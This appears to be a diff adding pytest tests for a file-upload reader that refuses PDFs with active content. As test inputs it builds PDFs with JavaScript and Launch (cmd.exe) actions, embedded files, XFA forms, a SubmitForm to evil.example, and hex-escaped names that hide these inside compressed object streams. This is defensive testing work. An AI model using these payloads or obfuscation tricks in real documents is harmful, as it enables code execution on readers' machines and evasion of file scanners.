@@ -1,0 +1,92 @@
+"""PDFs: kept as they are, but only as pages."""
+
+import zlib
+from datetime import date
+
+import pytest
+from hypothesis import given, settings
+
+from exchange.files.read import judge, read_contents
+from tests.support.files import only_refusals, refused
+from tests.support.hostile_files import mutated
+
+PAGES = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction[2 0 R/Fit]>>endobj\n%%EOF\n"
+
+
+def taken(content):
+    return read_contents(content, date(2026, 11, 22)).as_picture()
+
+
+def pdf(*objects: bytes) -> bytes:
+    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer<<>>\n%%EOF\n"
+
+
+def compressed(objects: bytes, name: bytes = b"/ObjStm", line: bytes = b"\r\n") -> bytes:
+    head = b"5 0 obj<</Type" + name + b"/N 1/First 4/Filter/FlateDecode>>stream" + line
+    return head + zlib.compress(objects) + b"\nendstream endobj"
+
+
+def test_a_receipt_of_pages_is_kept_as_it_is():
+    assert taken(PAGES).content == PAGES
+    assert taken(pdf(compressed(b"1 0 <</Type/Catalog>>"))).media_type == "application/pdf"
+
+
+def test_a_pdf_without_an_end_is_broken():
+    with refused("photo-broken"):
+        taken(PAGES[:20])
+
+
+def test_a_pdf_of_more_than_two_megabytes_is_refused_unread():
+    large = pdf(b"%" + bytes(2 * 1024 * 1024))
+    assert judge(large).refusal.reason == "photo-pdf-large"
+    assert judge(large).refusal.values == {"most": 2}
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        b"<</S/JavaScript/JS(app.alert(1))>>",
+        b"<</S /Launch /F(cmd.exe)>>",
+        b"<</Type/EmbeddedFile>>",
+        b"<</Names<</EmbeddedFiles 3 0 R>>>>",
+        b"<</S/J#61vaScript>>",
+        b"<</S/#4A#61#76#61#53cript>>",
+        b"<</S/#4aavaScript>>",
+        b"<</AcroForm<</XFA 4 0 R>>>>",
+        b"<</S/SubmitForm/F(http://evil.example)>>",
+        b"<</Subtype/RichMedia>>",
+        b"<</Encrypt 8 0 R>>",
+    ],
+)
+@pytest.mark.parametrize("hidden", [False, True])
+def test_a_pdf_that_runs_or_carries_something_is_refused(action, hidden):
+    with refused("photo-pdf-active"):
+        taken(pdf(compressed(b"1 0 " + action) if hidden else b"1 0 obj" + action + b"endobj"))
+
+
+@pytest.mark.parametrize("name", [b"/ObjStm", b"/O#62jStm", b" /ObjStm ", b"/#4fbj#53tm"])
+@pytest.mark.parametrize("line", [b"\r\n", b"\n"])
+def test_a_script_in_compressed_objects_is_found_however_they_are_named(name, line):
+    with refused("photo-pdf-active"):
+        taken(pdf(compressed(b"1 0 <</S/JavaScript>>", name, line)))
+
+
+@pytest.mark.parametrize(
+    "objects",
+    [
+        b"5 0 obj<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>stream\n789c\nendstream",
+        b"5 0 obj<</Type/ObjStm>>endobj",
+        compressed(bytes(30 * 1024 * 1024)),
+        compressed(b"1 0 <<>>") * 2_001,
+    ],
+)
+def test_objects_that_cannot_be_looked_at_are_refused(objects):
+    with refused("photo-pdf-active"):
+        taken(pdf(objects))
+
+
+@settings(deadline=None)
+@given(mutated(PAGES, pdf(compressed(b"1 0 <</S/JavaScript>>")), pdf(b"<</S/Launch>>")))
+def test_mutated_pdfs_are_kept_or_refused_but_never_fail(content):
+    with only_refusals("photo-"):
+        assert b"/JavaScript" not in taken(content).content
